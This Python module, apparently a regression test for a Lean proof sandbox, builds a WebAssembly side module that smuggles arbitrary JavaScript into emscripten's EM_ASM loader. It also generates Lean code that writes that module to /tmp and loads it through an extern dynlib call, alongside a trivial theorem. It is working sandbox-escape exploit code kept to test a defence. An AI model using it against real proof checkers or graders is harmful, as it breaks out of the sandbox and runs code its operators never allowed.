"""The attack that the seal was made for: a WebAssembly side module with JavaScript in it, written and loaded by Lean code."""

from __future__ import annotations

from prover.lean.embedded.wasm import signed, unsigned

PATH = "/tmp/side.so"


def _name(text: str) -> bytes:
    return unsigned(len(text)) + text.encode()


def _section(number: int, body: bytes) -> bytes:
    return bytes([number]) + unsigned(len(body)) + body


def module(javascript: str) -> bytes:
    """A module whose loader evaluates `javascript`: emscripten takes what stands between two exported addresses for the text of
    functions."""
    text = ("};" + javascript + ";()=>{").encode() + b"\0"
    memory = unsigned(len(text)) + unsigned(0) + unsigned(0) + unsigned(0)
    parts = [
        _section(0, _name("dylink.0") + b"\x01" + unsigned(len(memory)) + memory),
        _section(
            2,
            unsigned(2)
            + (_name("env") + _name("memory") + b"\x02\x03" + unsigned(0) + unsigned(32768))
            + (_name("env") + _name("__memory_base") + b"\x03\x7f\x00"),
        ),
        _section(6, unsigned(2) + b"\x7f\x00\x41\x00\x0b" + b"\x7f\x00\x41" + signed(len(text)) + b"\x0b"),
        _section(7, unsigned(2) + _name("__start_em_asm") + b"\x03\x01" + _name("__stop_em_asm") + b"\x03\x02"),
        _section(11, unsigned(1) + b"\x00\x23\x00\x0b" + unsigned(len(text)) + text),
    ]
    return b"\0asm\x01\0\0\0" + b"".join(parts)


def lean(javascript: str) -> str:
    """Lean source that loads it, with nothing imported but Init."""
    content = "".join(chr(b) if chr(b).isascii() and chr(b).isalnum() else f"\\x{b:02x}" for b in module(javascript))
    return f"""
namespace Lean
@[extern "lean_load_dynlib"] opaque loadDynlib (path : @& System.FilePath) : IO Unit
end Lean
def content : String := "{content}"
def bytes : ByteArray := content.foldl (fun b c => b.push c.toNat.toUInt8) ByteArray.empty
#eval show IO Unit from do
  IO.FS.writeBinFile "{PATH}" bytes
  Lean.loadDynlib "{PATH}"
theorem fine : True := trivial
"""
